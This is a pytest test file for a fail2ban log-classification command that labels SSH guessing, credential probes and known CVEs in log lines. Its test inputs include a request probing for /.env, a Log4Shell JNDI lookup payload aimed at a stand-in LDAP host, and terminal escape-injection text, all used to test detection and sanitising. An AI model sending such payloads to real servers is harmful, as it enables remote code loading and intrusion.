"""`classify FILE`: what log lines show, each for itself and all as one ban."""

from __future__ import annotations

import io
import json
import select
import signal
import subprocess
import sys
import tracemalloc
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from f2b_enrich import wire
from f2b_enrich.cli.classify_input import arrivals
from f2b_enrich.cli.classify_lines import LineReader, line_json, verdict_json
from f2b_enrich.store import classes
from f2b_enrich.store.lines import MAX_BYTES, MAX_LINE, MAX_LINES
from tests import uncovered
from tests.cli import Ran, run
from tests.stores import NOW, StoreBuilder, shipped_analysis

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

COMMAND = (sys.executable, "-m", "f2b_enrich", "classify")
DEADLINE = 30.0
PIECE = 64 * 1024

SYSLOG = "Nov 21 20:13:22 host"
FAILED = f"{SYSLOG} sshd[7]: Failed password for root from 192.0.2.7 port 9 ssh2"
UNKNOWN = f"{SYSLOG} sshd[7]: Invalid user a b from 192.0.2.7 port 9"
PROBE = (
    '192.0.2.7 - - [21/Nov/2026:20:13:22 +0100] "GET /.env HTTP/1.1" 404 162 "-" "-"'
)
BANNED = "2026-11-21 20:13:22,109 fail2ban.actions [4711]: NOTICE  [sshd] Ban 192.0.2.7"
PLAIN = f"{SYSLOG} cron[7]: nothing to see"
LINES = (FAILED, UNKNOWN, PLAIN, PROBE)

RULE = """\
[[rule]]
name = "my-shop"
attack = "web-login-guessing"
pattern = '^shop: no such customer "(?P<username>[^"]*)"'
example = 'shop: no such customer "ann"'
shows = {username = "ann"}
"""


class Place:
    """A folder with a configuration, own rules and a log."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.rules = folder / "rules.d"
        self.rules.mkdir()
        self.config = folder / "config.toml"
        self.configure()
        self.log = folder / "some.log"

    def configure(self, more: str = "") -> None:
        self.config.write_text(f"[classify]\nrules = '{self.rules}'\n{more}")

    def write(self, *lines: str) -> Path:
        self.log.write_text("".join(f"{line}\n" for line in lines))
        return self.log

    def classify(self, *words: str | Path) -> Ran:
        return run("classify", "--config", self.config, *words)

    def objects(self, *words: str | Path) -> list[dict[str, Any]]:
        ran = self.classify("--json", *words)
        assert (ran.code, ran.err) == (0, "")
        return [json.loads(line) for line in ran.out.splitlines()]


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


@pytest.fixture
def tailing(place: Place) -> Iterator[subprocess.Popen[bytes]]:
    """Start the command behind a pipe that stays open."""
    with subprocess.Popen(
        (*COMMAND, "-", "--config", place.config),
        env=uncovered.environ(),
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as process:
        yield process
        process.kill()


def words_of(process: subprocess.Popen[bytes]) -> list[str]:
    """Wait for one more row, and give what stands in it."""
    assert process.stdout is not None
    ready, _, _ = select.select([process.stdout], [], [], DEADLINE)
    assert ready, f"nothing was printed in {DEADLINE} s"
    # The pipe holds one row; a buffered reader would hide a second from `select`.
    return process.stdout.raw.read(1 << 16).decode().split()  # type: ignore[attr-defined,no-any-return]


def tell(process: subprocess.Popen[bytes], line: str) -> None:
    assert process.stdin is not None
    process.stdin.write(line.encode())
    process.stdin.flush()


def test_each_line_has_class_rule_and_captures_and_all_a_verdict(place: Place) -> None:
    ran = place.classify(place.write(*LINES), "--jail", "sshd")

    assert (ran.code, ran.err) == (0, "")
    rows, verdict = ran.out.split("\n\n")
    assert [" ".join(row.split()) for row in rows.splitlines()] == [
        "line class rule captures",
        "1 ssh-password-guessing sshd-failed username=root port=9",
        '2 ssh-password-guessing sshd-invalid-user username="a b" port=9',
        "3 - - -",
        "4 credentials-probe cloud-credentials path=/.env",
    ]
    assert [" ".join(row.split()) for row in verdict.splitlines()] == [
        "4 lines as one ban of sshd:",
        "class lines what it is rules",
        "ssh-password-guessing 2 SSH password guessing sshd-failed, sshd-invalid-user",
        "credentials-probe 1 probe for cloud credentials (.aws, .env) "
        "cloud-credentials",
    ]


def test_the_columns_stand_below_each_other(place: Place) -> None:
    rows = place.classify(place.write(*LINES)).out.partition("\n\n")[0].splitlines()

    places = [(rows[0].index("rule"), rows[0].index("captures"))] * 2
    assert [(rows[1].index("sshd-f"), rows[1].index("user")), places[0]] == places
    assert rows[0].index("class") == rows[4].index("credentials")


def test_a_hole_is_named(place: Place) -> None:
    exploit = PROBE.replace("/.env", "/?x=${jndi:ldap://198.51.100.9/a}")

    ran = place.classify(place.write(exploit))
    line, verdict = place.objects(place.log)

    assert ran.out.count("CVE-2021-44228") == 2
    assert line["cve"] == "CVE-2021-44228"
    assert verdict["attacks"][0]["cves"] == ["CVE-2021-44228"]


def test_programs_get_an_object_a_line_and_last_the_verdict(place: Place) -> None:
    *lines, verdict = place.objects(place.write(FAILED, PLAIN))

    assert lines == [
        {
            "file": str(place.log),
            "line": 1,
            "attack": "ssh-password-guessing",
            "rule": "sshd-failed",
            "cve": None,
            "observed": {"username": "root", "port": "9"},
        },
        {
            "file": str(place.log),
            "line": 2,
            "attack": None,
            "rule": None,
            "cve": None,
            "observed": {},
        },
    ]
    assert verdict == {
        "verdict": "ssh-password-guessing",
        "jail": None,
        "lines_read": 2,
        "lines_counted": 2,
        "attacks": [
            {
                "attack": "ssh-password-guessing",
                "lines": 1,
                "rules": ["sshd-failed"],
                "cves": [],
            }
        ],
        "observed": [
            {"kind": "username", "value": "root", "lines": 1},
            {"kind": "port", "value": "9", "lines": 1},
        ],
    }


@pytest.mark.parametrize("jail", ["sshd", "recidive", "unheard-of"])
def test_the_verdict_is_what_a_real_ban_with_these_lines_gets(
    place: Place, jail: str
) -> None:
    raw = b"\n".join(
        (
            *(line.encode() for line in LINES),
            FAILED.encode().replace(b"root", b"\xff\xfe"),
            BANNED.encode(),
            FAILED.replace("root", "x" * 9_000).encode(),
        )
    )
    place.log.write_bytes(raw)
    fields = {"V": "1", "EVENT": "ban", "JAIL": jail, "IP": "192.0.2.7", "TIME": "7"}
    fields["MATCHES"] = raw.decode("utf-8", "surrogateescape")
    store = StoreBuilder(place.folder / "bans.db")
    (ban,) = store.record(wire.decode(wire.encode(fields), received_at=NOW))
    store.classify()
    with store.reading() as connection:
        attacks = classes.attacks(connection, ban)
        observed = classes.observed(connection, ban)

    verdict = json.loads(
        place.classify(place.log, "--jail", jail, "--json").out.splitlines()[-1]
    )

    assert verdict["verdict"] == attacks[0].attack
    assert {(each["attack"], each["lines"]) for each in verdict["attacks"]} == {
        (each.attack, each.lines) for each in attacks
    }
    assert {tuple(each.values()) for each in verdict["observed"]} == {
        (each.kind, each.value, each.lines) for each in observed
    }


def test_a_jail_that_watches_fail2ban_has_no_attack_of_its_own(place: Place) -> None:
    line, verdict = place.objects(place.write(FAILED), "--jail", "recidive")

    assert line["attack"] is None
    assert verdict["verdict"] == "repeat-offender"


def test_the_jail_tells_where_no_line_does(place: Place) -> None:
    place.configure(
        "[jails.own.shop]\nservice = 'web'\nattack = 'web-login-guessing'\n"
        "[jails.aliases]\nold-shop = 'shop'"
    )

    ran = place.classify(place.write(PLAIN), "--jail", "old-shop")

    assert ran.err == ""
    assert "1 line as one ban of shop:" in ran.out
    assert ran.out.splitlines()[-1].split() == [
        *("web-login-guessing", "0", "web", "log-in", "guessing"),
        *("no", "line", "tells:", "by", "its", "jail"),
    ]


def test_a_jail_that_nobody_named_is_told_so(place: Place) -> None:
    ran = place.classify(place.write(PLAIN), "--jail", "my\x1bjail")

    assert ran.code == 0
    assert ran.err == (
        "f2b-enrich: no jail 'my\\x1bjail' is known, [jails.own] can name it\n"
    )
    assert ran.out.splitlines()[-1].split()[0] == "other"
    assert "\x1b" not in ran.out


def test_no_lines_are_one_ban_all_the_same(place: Place) -> None:
    (verdict,) = place.objects(place.write(), "--jail", "sshd")
    last = place.classify(place.log).out.splitlines()[-1]

    assert last.split() == ["other", "0", "other", "no", "line", "tells"]
    assert (verdict["verdict"], verdict["lines_read"]) == ("ssh-password-guessing", 0)


def test_several_files_are_one_ban(place: Place) -> None:
    other = place.folder / "other.log"
    other.write_text(f"{PROBE}\n{PROBE}")

    ran = place.classify(place.write(FAILED), other)
    *lines, verdict = place.objects(place.log, other)

    assert f"{place.log}:\n     1  ssh-password" in ran.out
    assert f"{other}:\n     1  credentials" in ran.out
    assert [(line["file"], line["line"]) for line in lines] == [
        (str(place.log), 1),
        (str(other), 1),
        (str(other), 2),
    ]
    assert verdict["verdict"] == "credentials-probe"


def test_the_verdict_is_of_as_many_lines_as_a_ban_keeps(place: Place) -> None:
    fit = MAX_BYTES // len(PROBE)
    place.write(*[PROBE] * fit, *[FAILED] * 2_000)

    ran = place.classify(place.log)
    *lines, verdict = place.objects(place.log)

    assert f"the first {fit:,} of {fit + 2_000:,} lines, as many as a ban keeps" in (
        ran.out
    )
    assert (len(lines), verdict["lines_read"]) == (fit + 2_000, fit + 2_000)
    assert [each["lines"] for each in verdict["attacks"]] == [fit]


def test_a_line_too_many_ends_what_is_counted(place: Place) -> None:
    place.write(*[FAILED] * 590, *["x" * MAX_LINE] * 9, FAILED)

    *_, verdict = place.objects(place.log)

    assert verdict["lines_counted"] < 599
    assert verdict["attacks"][0]["lines"] == 590


def test_empty_lines_are_counted_as_far_as_a_ban_has_them(place: Place) -> None:
    *_, verdict = place.objects(place.write(*[""] * (MAX_LINES + 1)))

    assert verdict["lines_counted"] == MAX_LINES


def test_hostile_text_moves_no_cursor(place: Place) -> None:
    name = "\x1b[2J\x9b\u202eroot\0"
    place.write(FAILED.replace("root", name).replace("\n", ""))

    shown = place.classify(place.log).out
    told = place.classify(place.log, "--json").out

    assert "username=\u241b[2J\ufffd\ufffdroot\u2400" in shown.replace('"', "")
    assert shown.replace("\n", "").isprintable()
    assert told.isascii()
    assert told.replace("\n", "").isprintable()


class Trickle(io.RawIOBase):
    """Bytes that arrive in pieces."""

    def __init__(self, *pieces: bytes) -> None:
        self._pieces = iter(pieces)

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        piece = next(self._pieces, b"")
        buffer[: len(piece)] = piece
        return len(piece)


def arriving(*pieces: bytes) -> io.BufferedReader:
    return io.BufferedReader(Trickle(*pieces), PIECE)


@given(st.lists(st.binary(min_size=1, max_size=30)))
def test_lines_are_the_same_however_they_arrive(pieces: list[bytes]) -> None:
    trickled = arriving(*pieces)
    whole = b"".join(pieces)

    found = [line for lines in arrivals(trickled, name="-") for line in lines]

    ended = whole.removesuffix(b"\n").split(b"\n") if whole else []
    assert found == [
        line.rstrip(b"\r").decode("utf-8", "replace").replace("\0", "\u2400")
        for line in ended
    ]


def test_an_endless_line_takes_no_memory() -> None:
    """It stands for more than 200 MB, of which its beginning is read."""
    endless = arriving(*[b"\0" * PIECE] * 3_200, b"\nnext")
    tracemalloc.start()

    found = [line for lines in arrivals(endless, name="-") for line in lines]

    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 4_000_000
    assert [line[:4] for line in found] == ["\u2400" * 4, "next"]
    assert len(found[0].encode()) <= MAX_LINE


@given(st.binary(max_size=400))
def test_any_bytes_give_an_object_for_each_line(raw: bytes) -> None:
    reader = LineReader(shipped_analysis(), jail=None)
    rows = [
        line_json("-", line)
        for lines in arrivals(arriving(raw), name="-")
        for line in reader.read(lines, after=0)
    ]

    ended = raw.count(b"\n") + (raw[-1:] not in {b"", b"\n"})
    assert len(rows) == reader.verdict().read == ended
    for row in (*rows, verdict_json(reader.verdict())):
        assert json.loads(row)
        assert row.isascii()
        assert "\n" not in row


def test_a_row_is_printed_while_the_pipe_stays_open(
    tailing: subprocess.Popen[bytes],
) -> None:
    assert words_of(tailing) == ["line", "class", "rule", "captures"]
    tell(tailing, f"{FAILED}\nthe beginning of")

    assert words_of(tailing)[1] == "ssh-password-guessing"

    tell(tailing, f" a line\n{PROBE}\n")
    assert [word for word in words_of(tailing) if word in {"-", "credentials-probe"}]
    assert tailing.poll() is None


def test_ctrl_c_ends_it_with_the_verdict(tailing: subprocess.Popen[bytes]) -> None:
    words_of(tailing)
    tell(tailing, f"{PROBE}\n")
    words_of(tailing)

    tailing.send_signal(signal.SIGINT)
    out, err = tailing.communicate(timeout=DEADLINE)

    assert tailing.returncode == 130
    assert b"1 line as one ban:" in out
    assert b"Traceback" not in err


def test_who_has_seen_enough_is_no_error(place: Place) -> None:
    words = (place.write(*[FAILED] * 20_000), "--config", place.config)
    ran = subprocess.run(
        ("sh", "-c", '"$@" | head -n 2', "sh", *COMMAND, *words),
        capture_output=True,
        text=True,
        check=True,
    )

    assert (len(ran.stdout.splitlines()), ran.stderr) == (2, "")


def test_standard_input_that_is_closed_is_told(place: Place) -> None:
    ran = subprocess.run(
        ("sh", "-c", '"$@" <&-', "sh", *COMMAND, "-", "--config", place.config),
        capture_output=True,
        text=True,
        check=False,
    )

    assert ran.returncode == 1
    assert ran.stderr == "f2b-enrich: standard input: it is closed\n"


@pytest.mark.parametrize("option", [(), ("--rules",)])
def test_a_file_that_cannot_be_read_is_one_line(
    place: Place, option: tuple[str, ...]
) -> None:
    place.write(FAILED)
    missing = place.classify(place.log, *option, place.folder / "none\x1b.log")
    folder = place.classify(place.log, *option, place.folder)

    assert (missing.code, folder.code) == (1, 1)
    assert missing.err == (
        f"f2b-enrich: {place.folder}/none\u241b.log: No such file or directory\n"
    )
    assert folder.err == f"f2b-enrich: {place.folder}: Is a directory\n"


def test_rules_that_are_tried_come_before_all_others(place: Place) -> None:
    line = 'shop: no such customer "eve"'
    place.write(line, FAILED)
    own = place.folder / "my.toml"
    own.write_text(
        RULE
        + RULE.replace("my-shop", "all-of-sshd")
        .replace("web-login", "login")
        # It would never be reached behind the shipped ones.
        .replace('^shop: no such customer "', "sshd.* for ")
        .replace('[^"]*)"', "root)")
        .replace('shop: no such customer "ann"', "sshd for root")
        .replace('"ann"', '"root"')
    )

    before = place.objects(place.log)
    after = place.objects(place.log, "--rules", own)

    assert [each["rule"] for each in before[:2]] == [None, "sshd-failed"]
    assert [each["rule"] for each in after[:2]] == ["my-shop", "all-of-sshd"]
    assert after[0]["observed"] == {"username": "eve"}


def test_rules_of_the_folder_are_used_but_for_those_tried_anew(place: Place) -> None:
    place.write('shop: no such customer "eve"')
    kept = place.rules / "shop.toml"
    kept.write_text(RULE)
    new = place.folder / "new.toml"
    new.write_text(RULE.replace("shop: no", "shop: No"))

    assert place.objects(place.log)[0]["rule"] == "my-shop"
    assert place.objects(place.log, "--rules", kept)[0]["rule"] == "my-shop"
    assert place.objects(place.log, "--rules", new)[0]["rule"] is None


def test_mistakes_in_rules_are_one_line_each(place: Place) -> None:
    place.write(FAILED)
    bad = place.folder / "bad.toml"
    bad.write_text(
        RULE.replace("web-login-guessing", "nonsense")
        + RULE.replace("my-shop", "second").replace("(?P<username>", "(?P<who>")
    )
    kept = place.rules / "kept.toml"
    kept.write_text(bad.read_text())

    tried = place.classify(place.log, "--rules", bad)
    configured = place.classify(place.log)

    for ran, file in ((tried, bad), (configured, kept)):
        first, second = ran.err.splitlines()
        assert (ran.code, ran.out) == (1, "")
        assert first.startswith(f"f2b-enrich: {file}: rule 'my-shop': attack: ")
        assert second.startswith(f"f2b-enrich: {file}: rule 'second': pattern: ")


def test_an_example_that_shows_something_else_is_told(place: Place) -> None:
    place.write('shop: no such customer "eve"')
    odd = place.folder / "odd.toml"
    odd.write_text(
        RULE.replace('= "ann"', '= "eve"')
        + RULE.replace("my-shop", "second").replace("shop: no such c", "C", 1)
        + RULE.replace("my-shop", "third").replace('"ann"', '""', 1)
    )

    ran = place.classify(place.log, "--rules", odd)

    assert ran.code == 0
    assert ran.err.splitlines() == [
        f"f2b-enrich: {odd}: rule 'my-shop': its example shows username = 'ann'",
        f"f2b-enrich: {odd}: rule 'second': its pattern does not match its example",
        f"f2b-enrich: {odd}: rule 'third': its example shows nothing",
    ]
    assert "my-shop" in ran.out


def test_a_file_of_rules_is_text_of_one_mebibyte_at_most(place: Place) -> None:
    place.write(FAILED)
    odd, large = place.folder / "odd.toml", place.folder / "large.toml"
    odd.write_bytes(b"# \xff")
    large.write_bytes(b"#" * (1 << 20) + b"\n")

    told = [place.classify(place.log, "--rules", file) for file in (odd, large)]

    assert [ran.code for ran in told] == [1, 1]
    assert "odd.toml: 'utf-8' codec can't decode byte 0xff" in told[0].err
    assert told[1].err == f"f2b-enrich: {large}: it has more than 1 MiB\n"


@pytest.mark.parametrize(
    ("words", "reason"),
    [
        ((), "name a FILE, - for standard input, or --all"),
        (("-", "--all"), "FILE and --all exclude each other"),
        (("--all", "--jail", "x"), "--jail and --rules are for lines, not for --all"),
        (("--all", "--rules", "x"), "--jail and --rules are for lines, not for --all"),
    ],
)
def test_wrong_usage_is_one_line(
    place: Place, words: tuple[str, ...], reason: str
) -> None:
    ran = place.classify(*words)

    assert (ran.code, ran.out) == (2, "")
    assert ran.err == (f"f2b-enrich: {reason}; f2b-enrich classify --help tells more\n")
